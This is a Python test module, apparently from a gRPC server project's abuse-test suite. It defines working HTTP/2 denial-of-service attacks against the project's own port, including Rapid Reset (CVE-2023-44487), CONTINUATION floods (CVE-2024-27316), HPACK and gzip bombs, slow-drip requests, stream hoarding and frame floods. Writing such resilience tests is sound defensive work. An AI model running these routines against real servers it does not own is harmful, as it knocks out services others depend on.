"""Attacks by frames of HTTP/2, on the port of gRPC; most need no token."""

import asyncio
import gzip
import random
from collections.abc import Awaitable, Callable
from typing import Final

from tests.abuse.attack import Attack, Peer, Port, Target, grpc_call
from tests.integration.hostile_http2 import (
    CANCEL,
    DATA,
    HEADERS,
    PING,
    PREFACE,
    RST_STREAM,
    SETTINGS,
    call_headers,
    frame,
)

_HELLO: Final = "/millrace.proto.v1.Cluster/Hello"
_METADATA: Final = "/millrace.proto.v1.Cluster/GetMetadata"
_PRODUCE: Final = "/millrace.proto.v1.Produce/Produce"
_FETCH: Final = "/millrace.proto.v1.Fetch/Fetch"
_WATCH: Final = "/grpc.health.v1.Health/Watch"
_REFLECTION: Final = "/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo"
_PRIORITY, _WINDOW_UPDATE, _CONTINUATION = 2, 8, 9
_MIB: Final = 1 << 20


async def _slow_preface(peer: Peer, target: Target) -> None:
    await peer.drip(PREFACE)


async def _slow_headers(peer: Peer, target: Target) -> None:
    await peer.greet()
    await peer.drip(call_headers(_HELLO, 1))


async def _slow_body(peer: Peer, target: Target) -> None:
    await peer.greet()
    await peer.send(call_headers(_METADATA, 1))
    await peer.drip(frame(DATA, b"\x00" + _MIB.to_bytes(4, "big") + bytes(8000), stream=1))


async def _idle(peer: Peer, target: Target) -> None:
    await peer.greet()
    await peer.hold_on()


async def _leave(peer: Peer, target: Target) -> None:
    await peer.greet()


async def _garbage(peer: Peer, target: Target) -> None:
    await peer.send(PREFACE + random.randbytes(5000))
    await peer.hold_on()


def _flood(data: bytes) -> Callable[[Peer, Target], Awaitable[None]]:
    async def flood(peer: Peer, target: Target) -> None:
        await peer.greet()
        while True:
            await peer.send(data)
            await asyncio.sleep(0)

    return flood


async def _resets(peer: Peer, target: Target) -> None:
    """CVE-2023-44487."""
    await peer.greet()
    for stream in range(1, 1 << 20, 2):
        reset = frame(RST_STREAM, CANCEL.to_bytes(4, "big"), stream=stream)
        await peer.send(call_headers(_FETCH, stream) + reset)


async def _resets_with_token(peer: Peer, target: Target) -> None:
    await peer.greet()
    for stream in range(1, 1 << 20, 2):
        reset = frame(RST_STREAM, CANCEL.to_bytes(4, "big"), stream=stream)
        await peer.send(grpc_call(stream, _METADATA, b"", target.token) + reset)


async def _small_windows(peer: Peer, target: Target) -> None:
    """Answers may be sent, a byte at a time."""
    await peer.send(PREFACE + frame(SETTINGS, b"\x00\x04\x00\x00\x00\x00"))
    for stream in range(1, 64, 2):
        await peer.send(grpc_call(stream, _METADATA, b"", target.token))
    while True:
        for stream in range(1, 64, 2):
            await peer.send(frame(_WINDOW_UPDATE, b"\x00\x00\x00\x01", stream=stream))
        await asyncio.sleep(0.01)


async def _no_window(peer: Peer, target: Target) -> None:
    """Answers are asked for, and none may be sent."""
    await peer.send(PREFACE + frame(SETTINGS, b"\x00\x04\x00\x00\x00\x00"))
    for stream in range(1, 128, 2):
        await peer.send(grpc_call(stream, _METADATA, b"", target.token))
    await peer.hold_on()


async def _continuations(peer: Peer, target: Target) -> None:
    """CVE-2024-27316: headers that do not end."""
    await peer.greet()
    await peer.send(frame(HEADERS, b"\x00\x01a\x01b", stream=1))
    while True:
        await peer.send(frame(_CONTINUATION, b"\x00\x01a\x01b" * 1000, stream=1))


async def _hpack_bomb(peer: Peer, target: Target) -> None:
    """A field of 4 KB in the table, named again with a byte each."""
    await peer.greet()
    value = b"x" * 3900
    entry = b"\x40\x01b\x7f" + _varint(len(value) - 127) + value
    for stream in range(1, 1 << 20, 2):
        plain = call_headers(_HELLO, stream)[9:]
        block = plain + (entry if stream == 1 else b"") + b"\xbe" * 10_000
        await peer.send(frame(HEADERS, block, flags=4, stream=stream))


async def _much_metadata(peer: Peer, target: Target) -> None:
    await peer.greet()
    more = {f"name-{number}": b"x" * 1000 for number in range(60)}
    for stream in range(1, 1 << 20, 2):
        await peer.send(call_headers(_HELLO, stream, more))


def _hoard(method: str) -> Callable[[Peer, Target], Awaitable[None]]:
    async def hoard(peer: Peer, target: Target) -> None:
        await peer.greet()
        for stream in range(1, 400, 2):
            await peer.send(call_headers(method, stream))
        await peer.hold_on()

    return hoard


async def _hoard_with_token(peer: Peer, target: Target) -> None:
    await peer.greet()
    for stream in range(1, 128, 2):
        await peer.send(grpc_call(stream, _FETCH, None, target.token))
    await peer.hold_on()


async def _half_messages(peer: Peer, target: Target) -> None:
    await peer.greet()
    begun = b"\x00" + (8 * _MIB - 10).to_bytes(4, "big") + bytes(_MIB)
    for stream in range(1, 128, 2):
        await peer.send(call_headers(_METADATA, stream))
        for at in range(0, len(begun), 16_000):
            await peer.send(frame(DATA, begun[at : at + 16_000], stream=stream))
    await peer.hold_on()


async def _announced(peer: Peer, target: Target) -> None:
    await peer.greet()
    for stream in range(1, 128, 2):
        begun = b"\x00\xff\xff\xff\xf0" + bytes(100)
        await peer.send(call_headers(_PRODUCE, stream) + frame(DATA, begun, stream=stream))
    await peer.hold_on()


_BOMB: Final = gzip.compress(bytes(64 * _MIB), 6)


async def _bombs(peer: Peer, target: Target) -> None:
    """Messages that say they are compressed, each of 64 MiB."""
    await peer.greet()
    for stream in range(1, 1 << 20, 2):
        authorization = f"Bearer {target.token}".encode()
        more = {"grpc-encoding": b"gzip", "authorization": authorization}
        await peer.send(call_headers(_METADATA, stream, more))
        body = b"\x01" + len(_BOMB).to_bytes(4, "big") + _BOMB
        for at in range(0, len(body), 16_000):
            await peer.send(frame(DATA, body[at : at + 16_000], stream=stream))
        await peer.send(frame(DATA, b"", flags=1, stream=stream))
        await asyncio.sleep(0.01)


async def _watches(peer: Peer, target: Target) -> None:
    await peer.greet()
    for stream in range(1, 128, 2):
        await peer.send(grpc_call(stream, _WATCH, b""))
    await peer.hold_on()


async def _reflections(peer: Peer, target: Target) -> None:
    await peer.greet()
    reading = asyncio.create_task(peer.hold_on())
    try:
        for stream in range(1, 1 << 20, 2):
            await peer.send(grpc_call(stream, _REFLECTION, b"\x3a\x00"))
            await asyncio.sleep(0.002)
    finally:
        reading.cancel()


async def _strangers(peer: Peer, target: Target) -> None:
    """Calls without a token."""
    await peer.greet()
    reading = asyncio.create_task(peer.hold_on())
    try:
        for stream in range(1, 1 << 20, 2):
            await peer.send(grpc_call(stream, _METADATA, b""))
            await asyncio.sleep(0)
    finally:
        reading.cancel()


async def _calls(peer: Peer, target: Target) -> None:
    """Calls of a known caller without end, as many at a time as a connection may have."""
    await peer.greet()
    await peer.send(frame(_WINDOW_UPDATE, (1 << 30).to_bytes(4, "big")))
    reading = asyncio.create_task(peer.hold_on())
    try:
        for begin in range(1, 1 << 20, 120):
            streams = range(begin, begin + 120, 2)
            await peer.send(
                b"".join(grpc_call(one, _METADATA, b"", target.token) for one in streams)
            )
            await asyncio.sleep(0.01)
    finally:
        reading.cancel()


def _varint(number: int) -> bytes:
    """Return the rest of an integer of HPACK."""
    made = b""
    while number >= 128:
        made += bytes([number % 128 | 128])
        number //= 128
    return made + bytes([number])


G: Final = Port.GRPC
ATTACKS: Final = (
    Attack("h2_preface_slow", "a preface of a byte in half a second", G, 200, _slow_preface),
    Attack("h2_headers_slow", "headers of a byte in half a second", G, 200, _slow_headers),
    Attack("h2_body_slow", "a request of a byte in half a second", G, 200, _slow_body),
    Attack("h2_idle", "a greeting, and silence", G, 400, _idle),
    Attack("h2_storm", "a greeting, and away", Port.PLAIN_GRPC, 50, _leave, 0.0),
    Attack("h2_garbage", "random frames", G, 50, _garbage),
    Attack("h2_pings", "pings without end", G, 20, _flood(frame(PING, bytes(8)) * 100)),
    Attack("h2_settings", "settings without end", G, 20, _flood(frame(SETTINGS) * 100)),
    Attack(
        "h2_priorities",
        "priorities without end",
        G,
        20,
        _flood(frame(_PRIORITY, bytes(5), stream=1) * 100),
    ),
    Attack(
        "h2_empty_data",
        "empty frames of data without end",
        G,
        20,
        _flood(call_headers(_PRODUCE, 1) + frame(DATA, stream=1) * 100),
    ),
    Attack(
        "h2_window_updates",
        "updates of windows by a byte",
        G,
        20,
        _flood(frame(_WINDOW_UPDATE, b"\x00\x00\x00\x01") * 100),
    ),
    Attack(
        "h2_unknown_frames", "frames of no known kind", G, 20, _flood(frame(200, bytes(9)) * 99)
    ),
    Attack("h2_rapid_reset", "calls that are reset at once", G, 20, _resets),
    Attack("h2_reset_requests", "requests with a token, reset at once", G, 20, _resets_with_token),
    Attack("h2_small_windows", "answers of a byte at a time", G, 20, _small_windows),
    Attack("h2_no_window", "answers that may not be sent", G, 40, _no_window),
    Attack("h2_continuations", "headers that do not end", G, 20, _continuations),
    Attack("h2_hpack_bomb", "a field of 4 KB, ten thousand times", G, 20, _hpack_bomb),
    Attack("h2_metadata", "60 KB of metadata", G, 20, _much_metadata),
    Attack("h2_hoarded_streams", "200 calls a connection that say nothing", G, 40, _hoard(_FETCH)),
    Attack("h2_hoarded_sessions", "the same, of a known caller", G, 40, _hoard_with_token),
    Attack("h2_half_messages", "half messages of strangers", G, 20, _half_messages),
    Attack("h2_announced", "messages of 4 GB are announced", G, 40, _announced),
    Attack("h2_calls", "calls without end, 60 at a time", G, 20, _calls),
    Attack("h2_bombs", "messages of 64 MiB, compressed to 64 KB", G, 10, _bombs),
    Attack("health_watches", "health is watched, 64 times a connection", G, 40, _watches),
    Attack("reflection", "services are listed without end", G, 20, _reflections),
    Attack("strangers_grpc", "calls without a token", G, 20, _strangers),
)
